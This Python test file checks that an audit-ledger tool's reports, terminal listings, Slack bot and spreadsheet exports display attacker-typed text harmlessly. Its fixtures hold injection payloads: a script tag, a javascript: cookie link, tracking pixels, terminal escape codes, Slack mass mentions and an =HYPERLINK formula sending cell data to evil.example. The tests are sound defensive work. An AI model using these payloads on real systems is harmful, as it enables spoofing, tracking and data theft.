"""People's text played by an attacker: whatever a comment, summary or name holds, the Markdown
report, the terminal and Slack show it as text and never obey it."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt

from bot.blocks import escape
from bot.messages import concern_text, feedback_text
from projections.inert import for_terminal, markdown_text

from .conftest import run_cli

SCRIPT = "<script>alert('x')</script>"
JS_LINK = "[read the guidance](javascript:alert(document.cookie))"
TRACKER = "![](https://tracker.example/pixel.gif?c=K01)"
RAW_IMG = "<img src=https://tracker.example/p.gif>"
HEADING = "Fine.\n# Inadequate in every area\n- forged bullet\n1. forged item"
TERMINAL = "Seen \x1b[2J\x1b]0;owned\x07 alone\rOVERWRITTEN \u202eevil\x9b31m"
CELL = "Report | forged cell"


def _render(markdown: str) -> str:
    """The HTML a CommonMark reader (with GFM tables) makes of the report."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def _assert_inert_html(html: str) -> None:
    assert "<script" not in html and "<img" not in html, html
    assert "javascript:" not in re.findall(r'href="[^"]*"', html).__str__(), html
    assert not re.search(r"<a |<h1>Inadequate|<li>forged", html), html


def _hostile_pack(pack: dict[str, Any]) -> dict[str, Any]:
    pack["returns"][0]["strengths"] = {"2": f"{SCRIPT} {JS_LINK}", "3": TRACKER}
    pack["returns"][0]["concerns"] = {"4": HEADING, "7": f"{RAW_IMG} {TERMINAL}"}
    pack["recommendations"][0]["text"] = f"Schools must report. {JS_LINK}"
    pack["actions"][0]["description"] = f"Remind every designated teacher {CELL} {SCRIPT}"
    pack["concerns"][0]["summary"] = f"School did not report. {TERMINAL}\nK99  case K02  forged"
    return pack


def test_markdown_text_renders_as_the_very_text() -> None:
    for text in (SCRIPT, JS_LINK, TRACKER, RAW_IMG, HEADING, CELL, "a \\[b\\] `c` & d",
                 "3-4 visits on 2026-01-05; 1.5 hours"):
        html = _render(markdown_text(text))
        _assert_inert_html(html)
        shown = re.sub(r"<[^>]+>", "", html).replace("&quot;", '"').replace("&lt;", "<")
        shown = shown.replace("&gt;", ">").replace("&amp;", "&")
        assert " ".join(shown.split()) == " ".join(text.split()), (text, html)


def test_the_markdown_report_shows_hostile_comments_as_text(
        store_url: str, tmp_path: Path, mini_pack: dict[str, Any]) -> None:
    pack = tmp_path / "hostile.json"
    pack.write_text(json.dumps(_hostile_pack(mini_pack)), encoding="utf-8")
    run_cli("import", str(pack), "--allow-identifiers", "test text", "--by", "ql",
            url=store_url, check=True)
    report = run_cli("report", "mini-2026", url=store_url, check=True).stdout
    html = _render(report)
    _assert_inert_html(html)
    assert "\x1b" not in report and "\r" not in report and "\u202e" not in report
    assert "alert('x')" in report and "tracker.example" in report  # shown, not dropped
    row = next(line for line in report.splitlines() if line.startswith("| A1.1"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 7, row  # six cells: no forged one
    page = run_cli("report", "mini-2026", "--format", "html", url=store_url, check=True).stdout
    assert "<script" not in page.lower() and "<img src=https://tracker" not in page
    assert not re.search(r"""(href|src)=["']?javascript:""", page, re.I)
    assert "&lt;script&gt;" in page  # the comment shown as text on the page too
    written = tmp_path / "report.md"
    run_cli("report", "mini-2026", "-o", str(written), url=store_url, check=True)
    assert "\x1b" not in written.read_text(encoding="utf-8")


def test_concern_list_writes_no_terminal_escapes(store_url: str, tmp_path: Path,
                                                 mini_pack: dict[str, Any]) -> None:
    pack = tmp_path / "hostile.json"
    pack.write_text(json.dumps(_hostile_pack(mini_pack)), encoding="utf-8")
    run_cli("import", str(pack), url=store_url, check=True)
    listed = run_cli("concern", "list", "mini-2026", url=store_url, check=True).stdout
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", listed), repr(listed)
    assert "\\u001b[2J" in listed and "\\u202eevil" in listed  # shown, so a reader sees it
    rows = [line for line in listed.splitlines() if not line.startswith("    ")]
    assert len(rows) == 1 and rows[0].startswith("K"), listed  # the summary forged no row
    as_json = json.loads(run_cli("concern", "list", "mini-2026", "--format", "json",
                                 url=store_url, check=True).stdout)
    assert TERMINAL in as_json[0]["summary"]  # JSON keeps the text itself, safely written


def test_for_terminal_leaves_ordinary_text_alone() -> None:
    text = "Zoë's plan, 5–10 years: “seen” twice.\n\tNext review 2026-03-01."
    assert for_terminal(text) == text
    assert for_terminal("a\r\nb") == "a\nb"


MENTIONS = "<!channel> <!here> <@U0QL> <https://evil.example|click> & co"


def test_slack_notification_text_carries_no_mention_or_link() -> None:
    names = {"sc.sw": MENTIONS, "sc.mgr": "<@U0SCMGR|boss>"}.__getitem__
    feedback = {"case": "K01", "agency": "social-care", "practitioner": "sc.sw",
                "acknowledged_by": "sc.mgr", "acknowledged_at": "2026-02-01T10:00:00+00:00",
                "issues": [], "responses": {}}
    concern = {"case": "K01", "agency": "school", "ref": "K01-<!channel>",
               "acknowledged_by": "sc.sw", "acknowledged_at": "2026-02-01T10:00:00+00:00"}
    for text in (feedback_text(feedback, names, for_manager=True),
                 concern_text(concern, names)):
        assert "<" not in text and ">" not in text, text
        assert re.search(r"&(?!amp;|lt;|gt;)", text) is None, text
    assert escape(MENTIONS) in feedback_text(feedback, names, for_manager=True)


def test_a_link_request_carries_no_mention_or_link_to_the_quality_lead() -> None:
    """Anyone in the workspace may ask to be linked, typing any name: the lead's notification
    and the asker's answer show that name as text."""
    from bot.linking import decided_message, request_message

    person = {"person": "new.person", "name": MENTIONS, "agency": "school",
              "partnership": "default"}
    for text, _blocks in (request_message(person, "U0NEW"),
                          decided_message(person, "U0NEW", f"refused by {MENTIONS}.")):
        assert "<" not in text and ">" not in text, text
        assert escape(MENTIONS) in text


def test_what_is_typed_to_the_bot_comes_back_without_its_mentions(
        tmp_path: Path, mini_pack: dict[str, Any]) -> None:
    """Whatever a person types after /audit, the reply's text and blocks never carry it back
    as a mention or a link."""
    from audit_ledger.wiring import wire
    from bot.answers import answer
    from bot.deliver import Deliverer, make_client
    from bot.directory import Directory
    from bot.services import BotServices
    from ledger.importer import import_pack
    from ledger.pack import parse_pack

    w = wire(f"sqlite:///{tmp_path / 'ledger.db'}", "")
    try:
        import_pack(w.app, parse_pack(mini_pack))
        services = BotServices(app=w.app, views=w.views, follower=w.follower,
                               deliver=Deliverer(make_client("xoxb-unused",
                                                             "http://127.0.0.1:9/")),
                               directory=Directory(w.views))
        for typed in ("<!channel>", "case <!here>", "case mini-2026 <@U0QL>",
                      "history mini-2026 <https://evil.example|K01>", "case mini-2026 K01 <!everyone>"):
            for user in ("U0QL", "U0SCSW", "UNKNOWN1"):
                reply, blocks = answer(services, user, typed, None)
                shown = reply + json.dumps(blocks)
                for hostile in ("<!channel>", "<!here>", "<@U0QL>", "<https://evil", "<!everyone>"):
                    assert hostile not in shown, (user, typed, reply)
    finally:
        w.close()


def test_spreadsheets_keep_a_typed_formula_as_text(store_url: str, tmp_path: Path,
                                                   mini_pack: dict[str, Any]) -> None:
    """A comment or description typed as =HYPERLINK(...) is written as text in the report's
    workbook and the action tracker, read back by a reader other than the writer."""
    from python_calamine import CalamineWorkbook

    formula = '=HYPERLINK("https://evil.example/?c="&A1,"Open the guidance")'
    mini_pack["actions"][0]["description"] = formula
    mini_pack["returns"][0]["concerns"]["4"] = formula
    pack = tmp_path / "formula.json"
    pack.write_text(json.dumps(mini_pack), encoding="utf-8")
    run_cli("import", str(pack), url=store_url, check=True)
    report, tracker = tmp_path / "report.xlsx", tmp_path / "tracker.xlsx"
    run_cli("report", "mini-2026", "--format", "xlsx", "-o", str(report), url=store_url,
            check=True)
    run_cli("action", "list", "mini-2026", "--format", "xlsx", "-o", str(tracker),
            url=store_url, check=True)
    for path in (report, tracker):
        with zipfile.ZipFile(path) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in s for s in sheets), path  # no formula anywhere
        book = CalamineWorkbook.from_path(str(path))
        cells = [str(v) for name in book.sheet_names
                 for row in book.get_sheet_by_name(name).to_python() for v in row]
        assert any(formula in v for v in cells), path  # the text itself, shown
